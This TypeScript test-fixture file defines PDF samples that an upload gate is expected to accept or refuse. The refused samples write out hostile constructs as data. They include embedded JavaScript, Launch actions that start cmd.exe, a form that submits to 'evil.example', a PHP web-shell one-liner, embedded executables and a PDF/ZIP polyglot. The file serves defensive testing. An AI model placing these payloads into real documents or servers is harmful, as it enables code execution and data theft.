import { deflateSync } from 'node:zlib';
import { MIB } from '../../core/bytes.ts';
import {
  attachment,
  buildPdf,
  objectStream,
  PAGE,
  type PdfPlan,
  type PdfStream,
  pageWith,
} from './pdf-builder.ts';
import type { Sample } from './sample.ts';
import { buildZip } from './zip-builder.ts';

type Objects = readonly (string | PdfStream)[];

const FILE = { filename: 'invoice.pdf', declared: 'application/pdf', mediaType: 'application/pdf' } as const;

const accepted = (title: string, objects: Objects | (() => Buffer) = PAGE, plan?: PdfPlan): Sample => ({
  ...FILE,
  title,
  bytes: typeof objects === 'function' ? objects : () => buildPdf(objects, plan),
  expect: 'accepted',
});

const refused = (
  rule: string,
  title: string,
  objects: Objects | (() => Buffer) = PAGE,
  plan?: PdfPlan,
): Sample => ({
  ...FILE,
  title,
  bytes: typeof objects === 'function' ? objects : () => buildPdf(objects, plan),
  expect: /no_header|incomplete|malformed/.test(rule) ? 'file_type_mismatch' : 'suspicious_content',
  rule,
});

const ATTACHED = '/Names << /EmbeddedFiles << /Names [(factur-x.xml) 5 0 R] >> >> /AF [5 0 R]';
const SCRIPT = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
const WEB_ACTION = '<< /S /URI /URI (https://example.com) >>';
const HIDDEN = `9 0 obj ${SCRIPT} endobj`;
const picture = (data: Buffer | string): PdfStream => ({
  dict: '/Type /XObject /Subtype /Image /Width 1',
  data,
});
const update =
  (...objects: string[]) =>
  (): Buffer =>
    Buffer.concat([
      buildPdf(pageWith(ATTACHED, ...attachment())),
      Buffer.from(
        `${objects.join('\n')}\nxref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 9 /Root 1 0 R /Prev 20 >>\nstartxref\n9\n%%EOF\n`,
      ),
    ]);
const nest = (depth: number) => `${'['.repeat(depth)}${']'.repeat(depth)}`;

/** PDF documents and what the gate says about them. */
export const PDF_SAMPLES: readonly Sample[] = [
  accepted('an empty page'),
  accepted('PDF 1.0', PAGE, { header: '%PDF-1.0' }),
  accepted('PDF 2.0', PAGE, { header: '%PDF-2.0' }),
  accepted('line ends of Windows', PAGE, { lineEnd: '\r\n' }),
  accepted('line ends of an old Macintosh', PAGE, { lineEnd: '\r' }),
  accepted('a cross-reference stream', PAGE, { xrefStream: true }),
  accepted(
    'an object stream',
    [
      ...PAGE,
      objectStream([
        [5, '<< /Type /Font >>'],
        [6, '[1 2 3]'],
        [7, '5 0 R'],
      ]),
    ],
    { xrefStream: true },
  ),
  accepted('an object stream that is not packed', [
    ...PAGE,
    objectStream([[5, '<< /A (b) >>']], { flate: false }),
  ]),
  accepted('an object stream with a plain predictor', [
    ...PAGE,
    { ...objectStream([[5, '(a)']]), dict: '/Type /ObjStm /N 1 /First 4 /DecodeParms << /Predictor 1 >>' },
  ]),
  accepted('page content and a picture', [
    ...PAGE,
    { dict: '', data: 'BT (Hello) Tj ET', flate: true },
    picture(Buffer.alloc(5000, 0xd7)),
  ]),
  accepted('a picture that begins with a line feed', [...PAGE, picture('\n\r\nabc')]),
  accepted('the word endstream cut by anything', [...PAGE, picture(`${'endstrea'.repeat(50)}endstr`)]),
  accepted('an update', update('1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj')),
  accepted(
    'links to web pages',
    pageWith('', '<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://example.com/JS/Launch) >> >>'),
  ),
  accepted('a document that opens at a page', pageWith('/OpenAction [3 0 R /Fit]')),
  accepted(
    'a document that opens at a page by an action',
    pageWith('/OpenAction << /S /GoTo /D [3 0 R /Fit] >>'),
  ),
  accepted('a document that opens at a page with links', [
    '<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>',
    ...PAGE.slice(1, 2),
    '<< /Type /Page /Parent 2 0 R /Annots [<< /Subtype /Link /A << /S /URI /URI (https://example.com) >> >>] >>',
  ]),
  accepted(
    'a form that is only filled in',
    pageWith('/AcroForm << /Fields [4 0 R] >>', '<< /FT /Tx /T (name) >>'),
  ),
  accepted('texts that only speak of scripts', [
    ...PAGE,
    '<< /Title (About /JavaScript and /Launch) /Other <2f4a53> >>',
  ]),
  accepted('names that are longer than forbidden ones', [...PAGE, '<< /JSX /JavaScripts /Launcher 1 >>']),
  accepted('strings with brackets and escapes', [
    ...PAGE,
    '<< /A (a\\) \\( (b) \\\\) /B <41 4> /C (\\101\\\n) >>',
  ]),
  accepted('comments', PAGE, { beforeTable: '% made by hand\n' }),
  accepted('an object without endobj', PAGE, { beforeTable: '8 0 obj\n<< /A 1 >>\n9 0 obj\n[]\nendobj\n' }),
  accepted('white space after the end', PAGE, { afterEnd: '\r\n  \n\0\0' }),
  accepted('no line feed after the end', PAGE, { afterEnd: '' }),
  accepted('an electronic invoice', pageWith(ATTACHED, ...attachment())),
  accepted('an electronic invoice that is not packed', pageWith(ATTACHED, ...attachment({ flate: false }))),
  accepted(
    'an electronic invoice of type application/xml',
    pageWith(ATTACHED, ...attachment({ subtype: '/application#2Fxml' })),
  ),
  accepted(
    'an electronic invoice with a byte order mark',
    pageWith(ATTACHED, ...attachment({ xml: '\xef\xbb\xbf<Invoice xmlns="urn:oasis"/>' })),
  ),
  accepted(
    'an electronic invoice named in UTF-16',
    pageWith(
      ATTACHED,
      ...attachment({
        specification: '<< /F <FEFF0061002E0078006D006C> /EF << /F 4 0 R >> >>',
      }),
    ),
  ),
  accepted(
    'an electronic invoice whose specification is in an object stream',
    pageWith(
      '/AF [6 0 R]',
      ...attachment().slice(0, 1),
      objectStream([[6, '<< /F (a.xml) /EF << /F 4 0 R >> >>']]),
    ),
  ),

  refused('pdf.no_header', 'text', () => Buffer.from('This is no PDF document.')),
  refused('pdf.no_header', 'white space before the header', PAGE, { header: ' %PDF-1.4' }),
  // The gate calls it a script before the inspector sees it.
  {
    ...refused('pdf.no_header', 'a script before the header', PAGE, {
      header: '<script>alert(1)</script>\n%PDF-1.4',
    }),
    expect: 'suspicious_content',
  },
  refused('pdf.no_header', 'a version that does not exist', PAGE, { header: '%PDF-9.9' }),
  refused('pdf.javascript', 'a script at opening', pageWith(`/OpenAction ${SCRIPT}`)),
  refused('pdf.javascript', 'a script by reference', pageWith('/OpenAction 4 0 R', SCRIPT)),
  refused(
    'pdf.javascript',
    'a script with escapes in its name',
    pageWith('/OpenAction << /S /J#61vaScript >>'),
  ),
  refused('pdf.javascript', 'a script in escapes only', pageWith('/OpenAction << /#4a#53 4 0 R >>')),
  refused(
    'pdf.javascript',
    'a script in the tree of names',
    pageWith('/Names << /JavaScript << /Names [(a) 4 0 R] >> >>'),
  ),
  refused('pdf.javascript', 'a script in an object stream', [
    ...PAGE,
    objectStream([
      [5, '[1]'],
      [6, SCRIPT],
    ]),
  ]),
  refused('pdf.javascript', 'a script in an object stream that is not packed', [
    ...PAGE,
    objectStream([[5, SCRIPT]], { flate: false }),
  ]),
  refused('pdf.javascript', 'a script in an object stream without a type', [
    ...PAGE,
    { ...objectStream([[5, SCRIPT]]), dict: '/Type /XObject /N 1 /First 4' },
  ]),
  refused('pdf.javascript', 'a script in an object stream with escapes in its keys', [
    ...PAGE,
    { ...objectStream([[5, SCRIPT]]), dict: '/#4e 1 /F#69rst 4' },
  ]),
  refused('pdf.javascript', 'a script in an update', update(`7 0 obj\n${SCRIPT}\nendobj`)),
  refused('pdf.javascript', 'the type of an action as an object of its own', [...PAGE, '/JavaScript']),
  refused('pdf.javascript', 'a script in the trailer', PAGE, { trailer: `/X ${SCRIPT}` }),
  refused('pdf.javascript', 'a script behind the end of a stream', [...PAGE, picture('abc'), SCRIPT]),
  refused(
    'pdf.launch',
    'an action that starts a program',
    pageWith('/OpenAction << /S /Launch /F (cmd.exe) >>'),
  ),
  refused(
    'pdf.launch',
    'a link that starts a program',
    pageWith('', '<< /Subtype /Link /A << /S /Launch /Win << /F (cmd.exe) >> >> >>'),
  ),
  refused('pdf.rich_media', 'rich media', pageWith('', '<< /Subtype /RichMedia >>')),
  refused(
    'pdf.form_action',
    'a form that sends',
    pageWith('', '<< /S /SubmitForm /F (https://evil.example) >>'),
  ),
  refused('pdf.form_action', 'a form that loads', pageWith('', '<< /S /ImportData /F (x.fdf) >>')),
  refused('pdf.xfa', 'an XFA form', pageWith('/AcroForm << /XFA 4 0 R >>')),
  refused(
    'pdf.embedded_target',
    'a link to an embedded document',
    pageWith('', '<< /S /GoToE /T << /R /C >> >>'),
  ),
  refused(
    'pdf.automatic_action',
    'a web page at opening',
    pageWith('/OpenAction << /S /URI /URI (https://evil.example) >>'),
  ),
  refused(
    'pdf.automatic_action',
    'a web page at opening, by reference',
    pageWith('/OpenAction 4 0 R', '<< /S /URI /URI (https://evil.example) >>'),
  ),
  refused(
    'pdf.automatic_action',
    'a web page at opening, in an object stream',
    pageWith('/OpenAction 5 0 R', objectStream([[5, '<< /S /URI >>']])),
  ),
  refused(
    'pdf.automatic_action',
    'another document when a page is shown',
    pageWith('', '<< /Type /Page /AA << /O << /S /GoToR /F (//evil/x) >> >> >>'),
  ),
  refused(
    'pdf.automatic_action',
    'a web page after another action',
    pageWith('/OpenAction << /S /GoTo /Next << /S /URI >> >>'),
  ),
  refused(
    'pdf.automatic_action',
    'a web page by actions in an object of their own',
    pageWith('/AA 4 0 R', '<< /WC << /S /URI >> >>'),
  ),
  ...['Movie', 'Sound', 'Rendition', 'Thread'].map((action) =>
    refused('pdf.automatic_action', `${action} at opening`, pageWith(`/OpenAction << /S /${action} >>`)),
  ),
  refused('pdf.encrypted', 'an encrypted document', PAGE, { trailer: '/Encrypt 9 0 R' }),
  refused('pdf.encrypted', 'an encrypted document with a cross-reference stream', PAGE, {
    trailer: '/Encrypt << /Filter /Standard >>',
    xrefStream: true,
  }),
  refused(
    'pdf.embedded_file',
    'an embedded program',
    pageWith(ATTACHED, ...attachment({ name: 'a.exe', subtype: '/application#2Foctet-stream' })),
  ),
  refused(
    'pdf.embedded_file',
    'an embedded program with an XML type',
    pageWith(ATTACHED, ...attachment({ name: 'a.exe' })),
  ),
  refused(
    'pdf.embedded_file',
    'an embedded XML document of another type',
    pageWith(ATTACHED, ...attachment({ subtype: '/application#2Foctet-stream' })),
  ),
  refused(
    'pdf.embedded_file',
    'a hundred and one embedded files',
    pageWith(
      ATTACHED,
      ...attachment({
        specification: `<< /F (a.xml) /EF << ${Array.from({ length: 101 }, (_, file) => `/F${file} ${100 + file} 0 R`).join(' ')} >> >>`,
      }),
    ),
  ),
  refused(
    'pdf.embedded_file',
    'a hundred and one XML documents that nothing names',
    pageWith('', ...Array.from({ length: 101 }, () => attachment()[0] ?? '')),
  ),
  refused(
    'pdf.embedded_file',
    'an embedded file without a type',
    pageWith(ATTACHED, { dict: '', data: '<a/>' }, ...attachment().slice(1)),
  ),
  refused(
    'pdf.embedded_file',
    'an embedded file that is not there',
    pageWith(ATTACHED, 'null', ...attachment().slice(1)),
  ),
  refused(
    'pdf.embedded_file',
    'files in an object of their own',
    pageWith(ATTACHED, ...attachment({ specification: '<< /F (a.xml) /EF 4 0 R >>' })),
  ),
  refused(
    'pdf.embedded_file',
    'two names of which one is no XML',
    pageWith(
      ATTACHED,
      ...attachment({
        specification: '<< /F (a.xml) /UF (a.exe) /EF << /F 4 0 R >> >>',
      }),
    ),
  ),
  refused(
    'pdf.embedded_file',
    'an embedded file that is replaced by an update',
    update('4 0 obj\n<< /A 1 >>\nstream\nMZ\nendstream\nendobj'),
  ),
  refused(
    'pdf.embedded_file',
    'an embedded file of 6 MiB',
    pageWith(ATTACHED, ...attachment({ xml: `<a>${'b'.repeat(6 * MIB)}</a>` })),
  ),
  refused(
    'pdf.embedded_xml',
    'an embedded program named .xml',
    pageWith(ATTACHED, ...attachment({ xml: 'MZ\x90\0' })),
  ),
  refused(
    'pdf.embedded_xml',
    'an embedded web page named .xml',
    pageWith(ATTACHED, ...attachment({ xml: '<html xmlns="http://www.w3.org/1999/xhtml"/>' })),
  ),
  refused(
    'pdf.embedded_xml',
    'embedded XML with entities',
    pageWith(ATTACHED, ...attachment({ xml: '<!DOCTYPE a [<!ENTITY b "c">]><a/>' })),
  ),
  refused(
    'pdf.embedded_xml',
    'embedded XML with a style sheet',
    pageWith(ATTACHED, ...attachment({ xml: '<?xml-stylesheet href="x"?><a/>' })),
  ),
  refused('pdf.hidden_object', 'an object in a string', [
    ...PAGE,
    `<< /A (${HIDDEN.replace(/[()\\]/g, '')}) >>`,
  ]),
  refused('pdf.hidden_object', 'an object in a comment', PAGE, { beforeTable: `% ${HIDDEN}\n` }),
  refused('pdf.hidden_object', 'an object in a stream', [...PAGE, picture(`abc ${HIDDEN} abc`)]),
  refused('pdf.hidden_object', 'an object in a stream with comments in its head', [
    ...PAGE,
    picture(`abc 9 %\n0%x\n obj ${SCRIPT}`),
  ]),
  refused('pdf.hidden_object', 'an object in a stream far from its number', [
    ...PAGE,
    picture(`9 0 ${' '.repeat(99)}obj ${SCRIPT}`),
  ]),
  refused('pdf.hidden_object', 'an object in a string that is never closed', PAGE, {
    beforeTable: `8 0 obj ( endobj ${HIDDEN}\n`,
  }),
  refused('pdf.object_number', 'an impossible object number', [...PAGE], {
    beforeTable: '99999999 0 obj\nnull\nendobj\n',
  }),
  refused('pdf.object_number', 'an impossible object number in an object stream', [
    ...PAGE,
    objectStream([[99_999_999, '[]']]),
  ]),
  refused('pdf.object_stream_table', 'an object that begins inside of a string', [
    ...PAGE,
    objectStream(
      [
        [5, `(${SCRIPT})`],
        [6, '[]'],
      ],
      { table: '5 0 6 1' },
    ),
  ]),
  refused('pdf.object_stream_table', 'an object that begins in the table', [
    ...PAGE,
    objectStream([[5, '[]']], { first: 0 }),
  ]),
  refused('pdf.object_stream_table', 'a table that is too short', [
    ...PAGE,
    objectStream([[5, '[]']], { table: '5' }),
  ]),
  refused('pdf.object_stream_table', 'an object stream without its keys', [
    ...PAGE,
    objectStream([[5, '[]']], { dict: '/Type /ObjStm' }),
  ]),
  refused('pdf.object_stream_table', 'too many objects in an object stream', [
    ...PAGE,
    objectStream([[5, '[]']], { dict: '/N 100001 /First 4' }),
  ]),
  refused('pdf.object_stream_table', 'an object stream that stops in a string', [
    ...PAGE,
    objectStream([[5, '(abc']]),
  ]),
  refused('pdf.stream_unreadable', 'an object stream with another filter', [
    ...PAGE,
    objectStream([[5, SCRIPT]], { dict: '/Type /ObjStm /N 1 /First 4 /Filter /LZWDecode', flate: false }),
  ]),
  refused('pdf.stream_unreadable', 'an object stream with two filters', [
    ...PAGE,
    objectStream([[5, SCRIPT]], {
      dict: '/Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]',
      flate: false,
    }),
  ]),
  refused('pdf.stream_unreadable', 'an object stream whose filter is somewhere else', [
    ...PAGE,
    objectStream([[5, SCRIPT]], { dict: '/N 1 /First 4 /Filter 6 0 R', flate: false }),
  ]),
  refused('pdf.stream_unreadable', 'an object stream with a predictor', [
    ...PAGE,
    objectStream([[5, SCRIPT]], { dict: '/N 1 /First 4 /DecodeParms << /Predictor 12 >>' }),
  ]),
  refused('pdf.stream_unreadable', 'an object stream with its filter said twice', [
    ...PAGE,
    objectStream([[5, SCRIPT]], { dict: '/N 1 /First 4 /Filter /ASCIIHexDecode' }),
  ]),
  refused('pdf.stream_unreadable', 'an object stream that is packed in another way than it says', [
    ...PAGE,
    { dict: '/Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode', data: deflateSync('5 0\n[]\n') },
  ]),
  refused('pdf.stream_unreadable', 'an object stream that says its filter in a list of two', [
    ...PAGE,
    {
      dict: '/Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode]',
      data: deflateSync('5 0\n[]\n'),
    },
  ]),
  refused('pdf.object_stream_table', 'two objects of an object stream that begin at one place', [
    ...pageWith('/OpenAction 5 0 R'),
    objectStream(
      [
        [5, WEB_ACTION],
        [6, '[]'],
      ],
      { table: '5 0 6 0' },
    ),
  ]),
  refused('pdf.object_stream_table', 'two objects of an object stream with nothing but white space between', [
    ...pageWith('/OpenAction 5 0 R'),
    objectStream([
      [5, ' % nothing'],
      [6, WEB_ACTION],
    ]),
  ]),
  refused('pdf.object_stream_table', 'two objects of an object stream behind its end', [
    ...PAGE,
    objectStream([
      [5, '[]'],
      [6, ''],
      [7, ''],
    ]),
  ]),
  refused('pdf.automatic_action', 'a document that opens a web page by an object of a stream', [
    ...pageWith('/OpenAction 5 0 R'),
    objectStream([[5, WEB_ACTION]]),
  ]),
  refused('pdf.incomplete', 'a document cut off in an object stream', () => {
    const bytes = buildPdf([...PAGE, objectStream([[5, '(a)']])]);
    return bytes.subarray(0, bytes.indexOf('endstream') - 4);
  }),
  refused('pdf.object_stream_table', 'an object stream of two objects that names one', [
    ...PAGE,
    objectStream([[5, '[]']], { dict: '/Type /ObjStm /N 2 /First 4' }),
  ]),
  refused('pdf.object_stream_table', 'an object stream of two objects that holds two numbers', [
    ...PAGE,
    objectStream([[5, '']], { dict: '/Type /ObjStm /N 2 /First 4' }),
  ]),
  refused('pdf.stream_unreadable', 'an object stream that is damaged', [
    ...PAGE,
    { dict: '/N 1 /First 4 /Filter /FlateDecode', data: 'xxxx' },
  ]),
  refused('pdf.object_stream_too_large', 'an object stream of 33 MiB', [
    ...PAGE,
    objectStream([[5, ' '.repeat(33 * MIB)]]),
  ]),
  refused('pdf.too_deep', 'arrays 129 deep', [...PAGE, nest(129)]),
  refused('pdf.malformed', 'brackets that do not match', [...PAGE, '<< /A [1 2 >> ]']),
  refused('pdf.malformed', 'an object that does not end', [...PAGE, '<< /A 1']),
  refused('pdf.malformed', 'an object without a number', PAGE, { beforeTable: 'obj\nnull\nendobj\n' }),
  refused('pdf.malformed', 'a stream inside of a list', [...PAGE, '[<< /A 1 >> stream\nabc\nendstream ]']),
  refused('pdf.malformed', 'a stream without a dictionary', [...PAGE, '[] stream\nabc\nendstream']),
  refused('pdf.garbage', 'text between the objects', PAGE, { beforeTable: 'hello there\n' }),
  refused('pdf.garbage', 'a string between the objects', PAGE, { beforeTable: '(hello there)\n' }),
  refused('pdf.garbage', 'a dictionary between the objects', PAGE, { beforeTable: '<< /A 1 >>\n' }),
  refused('pdf.garbage', 'text after the end', PAGE, { afterEnd: '\nhello there\n' }),
  refused('pdf.garbage', 'a comment of 2,000 characters', PAGE, { beforeTable: `%${'a'.repeat(2000)}\n` }),
  refused('pdf.garbage', 'an archive after the end', PAGE, {
    afterEnd: Buffer.concat([Buffer.from('\n'), buildZip([{ name: 'a', data: 'x' }])]),
  }),
  refused('pdf.markup', 'a web page in a comment', PAGE, {
    beforeTable: '% <html><script>alert(1)</script>\n',
  }),
  refused('pdf.markup', 'a PHP script behind the header', PAGE, {
    header: '%PDF-1.4 <?php system($_GET[0]); ?>',
  }),
  refused('pdf.trailing_data', 'more than 1,024 bytes of white space after the end', PAGE, {
    afterEnd: `\n${' '.repeat(1030)}`,
  }),
  refused('pdf.trailing_data', 'a comment after the end', PAGE, { afterEnd: '\n% hello\n' }),
  refused('pdf.incomplete', 'half of a document', () => buildPdf().subarray(0, 150)),
  refused('pdf.incomplete', 'a document without its end', () => buildPdf().subarray(0, -6)),
  refused('pdf.incomplete', 'a document that stops in a stream', () =>
    buildPdf([...PAGE, picture('a'.repeat(900))]).subarray(0, 600),
  ),
  refused('pdf.incomplete', 'a document that stops in a string', () =>
    buildPdf([...PAGE, '(hello']).subarray(0, 230),
  ),
  refused('pdf.incomplete', 'only a header', () => Buffer.from('%PDF-1.7\n%%EOF\n')),
  refused('content.hidden_archive', 'an archive in a stream near the end', () => hiddenArchive()),
];

/** A document that is an archive as well: its end record lies in the last stream, its comment is the rest. */
function hiddenArchive(): Buffer {
  const tail = buildPdf([...PAGE, picture('X')]);
  const rest = tail.byteLength - tail.indexOf('X') - 1;
  return buildPdf([
    ...PAGE,
    picture(buildZip([{ name: 'a', data: 'x', method: 0 }], { end: { commentBytes: Math.min(rest, 100) } })),
  ]);
}
